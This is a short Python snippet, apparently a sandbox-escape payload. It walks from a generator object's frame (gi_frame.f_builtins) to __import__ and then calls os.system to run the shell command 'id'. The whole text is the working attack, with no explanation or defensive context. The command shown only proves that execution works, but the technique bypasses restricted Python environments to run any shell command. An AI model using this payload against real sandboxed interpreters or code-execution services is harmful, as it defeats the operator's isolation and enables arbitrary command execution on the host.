def generator():
    yield 1
machine = generator()
machine.gi_frame.f_builtins["__import__"]("os").system("id")
